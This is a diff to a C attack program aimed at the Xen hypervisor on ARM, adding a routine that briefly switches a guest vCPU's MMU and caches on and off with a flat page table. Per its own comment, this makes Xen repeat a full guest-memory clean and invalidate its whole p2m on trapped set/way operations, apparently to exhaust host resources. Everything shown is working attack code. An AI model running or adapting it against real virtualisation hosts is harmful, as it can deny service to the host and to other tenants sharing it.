@@ -144,12 +144,42 @@ static void foreign(struct attacker *a)
 }
 
 /*
+ * The vCPU's own MMU, for a moment: each address is itself, memory that is not cached.
+ * Each vCPU writes the same words.
+ */
+static void blink(void)
+{
+    static volatile uint32_t flat[4096] __attribute__((aligned(0x4000)));
+    uint32_t i, control;
+
+    for ( i = 0; i < 4096; i++ )
+        flat[i] = i << 20 | 0x1c02;
+    asm volatile("mcr p15, 0, %1, c2, c0, 0\n\t" /* TTBR0 */
+                 "mcr p15, 0, %2, c2, c0, 2\n\t" /* TTBCR */
+                 "mcr p15, 0, %3, c3, c0, 0\n\t" /* DACR */
+                 "mcr p15, 0, %2, c8, c7, 0\n\t" /* TLBIALL */
+                 "dsb\n\tisb\n\t"
+                 "mrc p15, 0, %0, c1, c0, 0\n\t" /* SCTLR: M and C */
+                 "orr %0, %0, #5\n\t"
+                 "mcr p15, 0, %0, c1, c0, 0\n\t"
+                 "isb\n\t"
+                 "bic %0, %0, #5\n\t"
+                 "mcr p15, 0, %0, c1, c0, 0\n\t"
+                 "isb"
+                 : "=&r"(control)
+                 : "r"(flat), "r"(0), "r"(1)
+                 : "memory");
+}
+
+/*
  * Set/way operations, where the machine lets Xen trap them: Xen cleans all the guest's
- * memory, and makes all entries of its p2m invalid.
+ * memory, and makes all entries of its p2m invalid. It does so once, and again only when
+ * the vCPU has switched its caches on.
  */
 static void clean_by_set_way(struct attacker *a)
 {
     asm volatile("mcr p15, 0, %0, c7, c14, 2; dsb" ::"r"(0) : "memory");
+    blink();
     count(a, true);
 }
 
